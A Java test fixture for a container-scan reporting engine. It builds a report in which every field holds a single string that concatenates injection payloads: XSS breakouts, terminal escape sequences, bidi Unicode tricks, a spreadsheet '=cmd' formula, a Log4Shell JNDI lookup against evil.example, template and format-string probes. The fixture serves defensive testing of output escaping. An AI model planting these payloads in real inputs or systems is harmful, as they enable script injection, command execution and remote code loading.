package dev.plimsoll.engine.report;

import dev.plimsoll.vocabulary.Confidence;
import dev.plimsoll.vocabulary.Cvss;
import dev.plimsoll.vocabulary.Digest;
import dev.plimsoll.vocabulary.Epss;
import dev.plimsoll.vocabulary.FileFacts;
import dev.plimsoll.vocabulary.Finding;
import dev.plimsoll.vocabulary.Finding.AdvisoryReference;
import dev.plimsoll.vocabulary.FixState;
import dev.plimsoll.vocabulary.FoundMalware;
import dev.plimsoll.vocabulary.FoundSecret;
import dev.plimsoll.vocabulary.InstalledPackage;
import dev.plimsoll.vocabulary.Inventory;
import dev.plimsoll.vocabulary.OperatingSystem;
import dev.plimsoll.vocabulary.PackageUrl;
import dev.plimsoll.vocabulary.Platform;
import dev.plimsoll.vocabulary.ScanReport;
import dev.plimsoll.vocabulary.ScanReport.DatabaseFacts;
import dev.plimsoll.vocabulary.ScanReport.ImageConfig;
import dev.plimsoll.vocabulary.ScanReport.ImageFacts;
import dev.plimsoll.vocabulary.ScanReport.LayerFacts;
import dev.plimsoll.vocabulary.ScanReport.SourceFacts;
import dev.plimsoll.vocabulary.Severity;
import dev.plimsoll.vocabulary.SourcePackage;
import dev.plimsoll.vocabulary.Verdict;
import dev.plimsoll.vocabulary.Verdict.PolicyVerdict;
import dev.plimsoll.vocabulary.VexAssessment;
import dev.plimsoll.vocabulary.Violation;
import dev.plimsoll.vocabulary.Warning;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/// A report whose every text is an attack: on terminals, HTML, XML, JSON, Markdown, spreadsheets, templates and
/// whoever allots fields of a fixed length.
public final class HostileReport {
    /// All attacks in one text of more than 10 KB.
    public static final String ATTACK = String.join(
            " ",
            List.of(
                    "</script><script>alert(1)</script>",
                    "</style></title></textarea>",
                    "]]>",
                    "--> <!--",
                    "\" onmouseover=alert(2) '`",
                    "<img src=x onerror=alert(3)>",
                    "&lt;b&gt; &#60;",
                    "\u0000\u0001\b\f\u001b[31m\u001b]0;owned\u0007\u009b2J\u007f",
                    "\u202eesrever\u202c \u2066x\u2069 \u200f \u200b \ufeff",
                    "\ufffe\uffff \ud83d\ude00 \ud800 \udc00x",
                    "line\r\nbreak\u2028\u2029\ttab",
                    "@team @org/team #12 GH-7 ![i](https://evil.example/i.png) [a](javascript:alert(4))",
                    "https://evil.example/ www.evil.example mail@evil.example",
                    "| cell |\n\n# heading\n\n- list\n1. number\n```\ncode\n```\n~~~\n***b*** __u__ ~~s~~ $x$",
                    "=cmd|' /C calc'!A1 ${jndi:ldap://evil.example} {{7*7}} {0} %s %n",
                    "x".repeat(10_240)));

    private static final Digest LAYER = Digest.parse("sha256:" + "a".repeat(64));

    private HostileReport() {}

    /// One finding of every severity, fix state and way to be set aside.
    public static ScanReport report() {
        var packages = List.of(
                installed("npm", ATTACK, List.of("/" + ATTACK, ATTACK + "!" + ATTACK)),
                installed("deb", ATTACK + "2", List.of()),
                installed("maven", ATTACK + "3", List.of("/a.jar!/" + ATTACK)));
        var findings = new ArrayList<Finding>();
        var states = FixState.values();
        var statuses = VexAssessment.Status.values();
        for (var severity : Severity.values()) {
            int i = severity.ordinal();
            var found = packages.get(i % packages.size());
            var finding = finding((i % 2 == 0 ? "CVE-" : "") + i + ATTACK, severity, found, states[i % states.length]);
            findings.add(finding);
            findings.add(finding("GHSA-" + i + ATTACK, severity, found, FixState.FIXED)
                    .withSuppressedBy(
                            ATTACK,
                            i == 0
                                    ? null
                                    : new VexAssessment(
                                            statuses[i % statuses.length],
                                            statuses[i % statuses.length] == VexAssessment.Status.NOT_AFFECTED
                                                    ? VexAssessment.Justification.COMPONENT_NOT_PRESENT
                                                    : null)));
        }
        return new ScanReport(
                Instant.parse("2026-03-01T12:00:00Z"),
                image(),
                new DatabaseFacts(
                        LAYER,
                        Instant.parse("2026-02-28T00:00:00Z"),
                        List.of(new SourceFacts(ATTACK, Instant.parse("2026-02-20T00:00:00Z"), 1))),
                new Inventory(
                        new OperatingSystem(ATTACK, ATTACK, List.of(ATTACK), ATTACK, ATTACK, ATTACK),
                        packages,
                        false,
                        List.of(),
                        List.of(new FoundSecret(ATTACK, ATTACK, "/" + ATTACK, LAYER, 1, ATTACK, true)),
                        List.of(new FileFacts("/" + ATTACK, LAYER, 06777, 1, null)),
                        List.of(new FoundMalware(ATTACK, ATTACK, "/" + ATTACK, LAYER, LAYER, true)),
                        List.of(Inventory.MODES, Inventory.SECRETS, ATTACK)),
                findings,
                verdict(findings),
                List.of(new Warning(ATTACK, ATTACK, ATTACK), new Warning("stale-source", ATTACK, ATTACK)));
    }

    private static InstalledPackage installed(String type, String name, List<String> paths) {
        return new InstalledPackage(
                PackageUrl.of(
                        type,
                        ATTACK.replace("/", "."),
                        name.replace("/", "."),
                        ATTACK,
                        new TreeMap<>(Map.of("arch", ATTACK))),
                name,
                ATTACK,
                new SourcePackage(ATTACK, ATTACK),
                LAYER,
                paths,
                List.of(ATTACK, "MIT", "GPL-2.0-only OR " + ATTACK),
                null,
                Confidence.LOW);
    }

    private static Finding finding(String id, Severity severity, InstalledPackage found, FixState state) {
        return new Finding(
                id,
                List.of(ATTACK, "CVE-" + ATTACK),
                severity,
                severity == Severity.UNKNOWN ? null : ATTACK,
                List.of(
                        new Cvss("3.1", "CVSS:3.1/" + ATTACK, 9.8, ATTACK),
                        new Cvss("2.0", ATTACK, 7.5, "NVD " + ATTACK)),
                new Epss(0.5, 0.9),
                true,
                ATTACK,
                Instant.parse("2021-12-10T00:40:56Z"),
                found.purl(),
                found.name(),
                found.version(),
                LAYER,
                state,
                state == FixState.FIXED ? ATTACK : null,
                List.of(new AdvisoryReference(ATTACK, ATTACK)),
                List.of("https://evil.example/" + ATTACK.substring(0, 900), "javascript:alert(5)", ATTACK),
                null);
    }

    private static ImageFacts image() {
        return new ImageFacts(
                ATTACK,
                LAYER,
                LAYER,
                List.of(ATTACK),
                Platform.parse("linux/amd64"),
                new ImageConfig(
                        null,
                        ATTACK,
                        List.of(ATTACK),
                        List.of(ATTACK),
                        List.of(ATTACK),
                        Map.of(
                                ATTACK,
                                ATTACK,
                                "org.opencontainers.image.base.name",
                                ATTACK,
                                "org.opencontainers.image.revision",
                                ATTACK),
                        List.of(ATTACK),
                        ATTACK),
                List.of(new LayerFacts(LAYER, null, ATTACK)));
    }

    private static Verdict verdict(List<Finding> findings) {
        var violations = new ArrayList<Violation>();
        for (var finding : findings) {
            violations.add(new Violation(
                    ATTACK,
                    finding.id(),
                    finding.packageUrl(),
                    LAYER,
                    List.of(ATTACK),
                    ATTACK,
                    ATTACK,
                    ATTACK,
                    ATTACK));
        }
        violations.add(new Violation("custom/" + ATTACK, null, null, null, List.of(), null, null, ATTACK, ATTACK));
        return new Verdict(List.of(
                new PolicyVerdict(ATTACK, true, violations),
                new PolicyVerdict(ATTACK + "2", false, violations),
                new PolicyVerdict(ATTACK + "3", true, List.of())));
    }
}
